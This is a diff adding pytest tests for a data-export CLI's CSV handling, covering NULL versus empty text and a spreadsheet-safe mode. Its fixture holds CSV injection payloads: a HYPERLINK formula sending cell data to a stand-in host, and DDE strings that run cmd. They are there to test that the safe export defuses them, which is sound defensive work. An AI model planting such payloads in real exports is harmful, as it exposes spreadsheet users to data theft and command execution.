@@ -241,6 +241,88 @@ def test_every_store_refuses_a_name_it_does_not_hold(exporting, capsys):
     assert err.endswith("holds no metric 'nothing_here'; the metrics it holds: by_hour, day_uses\n")
 
 
+# -- NULL and empty text; formulas ---------------------------------------------------------------------------------
+
+#: text a spreadsheet runs as a formula (OWASP's CSV injection payloads), beside NULL, empty text and numbers
+NOTES = [{"tag": tag, "note": note, "n": n, "x": x} for tag, note, n, x in [
+    ("a", None, -3, -0.5), ("b", "", 0, None), ("c", '=HYPERLINK("http://x.example/?"&A1,"click")', 1, 1.5),
+    ("d", "-2+3+cmd|' /C calc'!A0", -1, -2e-05), ("e", "@SUM(1+1)*cmd|' /C calc'!A0", 2, None),
+    ("f", "\t=1+1", None, 0.25), ("g", "\r=1+1", 4, 3.0), ("h", "-3", 5, -7.0), ("i", "+1.5", 6, None),
+    ("j", 'two\nlines, "quoted"', 7, 1e20), ("k", "plain", 8, 2.0)]]
+NOTES_METRIC = parse_metric("notes", "-- question: n?\n-- key: tag\nSELECT 1")
+#: what a spreadsheet-safe export turns into text: everything starting = + - @ tab CR but the plain numbers
+DEFUSED = {"c", "d", "e", "f", "g"}
+
+
+@pytest.fixture
+def notes(exporting):
+    exporting.write(NOTES_METRIC, NOTES)
+    return exporting
+
+
+def _duckdb_rows(path, **options) -> tuple[list[tuple], list[str]]:
+    """The CSV as DuckDB's ``read_csv`` reads it (its types detected), and those types."""
+    import duckdb
+
+    connection = duckdb.connect()
+    try:
+        relation = connection.read_csv(str(path), **options)
+        return relation.fetchall(), [str(kind) for kind in relation.types]
+    finally:
+        connection.close()
+
+
+def test_every_store_exports_null_as_an_empty_field_and_empty_text_quoted(notes, capsys, tmp_path):
+    """Was: both as an empty field, so no reader could tell NULL from ``''``. Now NULL is ``,,`` and empty text
+    ``,"",`` (PostgreSQL's CSV convention): DuckDB with ``allow_quoted_nulls=false`` and pyarrow with
+    ``quoted_strings_can_be_null=False`` read them back as NULL and ``''``; readers that cannot tell stay as before."""
+    code, out, err = run(capsys, "store", "export", "notes", "--out", "notes.csv")
+    assert (code, out) == (0, "")
+    text = (tmp_path / "notes.csv").read_bytes().decode()
+    assert text.splitlines()[:3] == ["tag,note,n,x", "a,,-3,-0.5", 'b,"",0,']
+    assert '"two\nlines, ""quoted"""' in text  # quoted as RFC 4180 has it
+    stored = [tuple(row.values()) for row in NOTES]
+    rows, types = _duckdb_rows(tmp_path / "notes.csv", allow_quoted_nulls=False)
+    assert (rows, types) == (stored, ["VARCHAR", "VARCHAR", "BIGINT", "DOUBLE"])
+    rows, _ = _duckdb_rows(tmp_path / "notes.csv")  # DuckDB's default: "" is NULL too, as before
+    assert rows[1][1] is None and rows[2:] == stored[2:]
+
+    import pyarrow.csv
+
+    table = pyarrow.csv.read_csv(tmp_path / "notes.csv", convert_options=pyarrow.csv.ConvertOptions(
+        strings_can_be_null=True, quoted_strings_can_be_null=False))
+    assert table.to_pylist() == NOTES
+    assert [row["note"] for row in csv.DictReader(io.StringIO(text, newline=""))][:2] == ["", ""]  # as before
+
+
+def test_every_store_exports_formula_text_as_stored_unless_spreadsheet_safe(notes, capsys, tmp_path):
+    """Without --spreadsheet-safe the data is as stored (a program reads it back exactly); with it, text a
+    spreadsheet would run (=, +, -, @, tab, CR first: CSV injection) gets a ' first, while numbers, and text that
+    is a plain number (-3, +1.5), stay as they are, so a reader still finds numbers there."""
+    code, out, err = run(capsys, "store", "export", "notes")
+    assert (code, err) == (0, "")
+    assert [row["note"] for row in csv.DictReader(io.StringIO(out, newline=""))] == [
+        row["note"] or "" for row in NOTES]
+    code, _, err = run(capsys, "store", "export", "notes", "--spreadsheet-safe", "--out", "safe.csv")
+    assert (code, err) == (0, f"exported {len(NOTES)} rows of notes to safe.csv\n")
+    rows, types = _duckdb_rows(tmp_path / "safe.csv", allow_quoted_nulls=False)
+    assert types == ["VARCHAR", "VARCHAR", "BIGINT", "DOUBLE"]  # the numbers are still numbers
+    assert rows == [(row["tag"], "'" + row["note"] if row["tag"] in DEFUSED else row["note"], row["n"], row["x"])
+                    for row in NOTES]
+    text = (tmp_path / "safe.csv").read_bytes().decode()
+    assert "a,,-3,-0.5\r\n" in text and 'b,"",0,\r\n' in text and "h,-3,5,-7.0\r\n" in text
+
+
+def test_spreadsheet_safe_with_json_lines_is_refused(capsys, tmp_path, monkeypatch):
+    clean_env(tmp_path, monkeypatch)  # refused before the store is opened
+    code, out, err = run(capsys, "store", "export", "notes", "--format", "jsonl", "--spreadsheet-safe",
+                         "--out", "notes.jsonl")
+    assert (code, out) == (2, "")
+    assert err == ("fediscope: error: --spreadsheet-safe applies to CSV only (a spreadsheet does not open JSON "
+                   "Lines); leave it out with --format jsonl\n")
+    assert not (tmp_path / "notes.jsonl").exists()
+
+
 # -- progress ------------------------------------------------------------------------------------------------------
 
 def test_progress_shows_the_rows_written_every_few_seconds_and_is_cleared(monkeypatch):
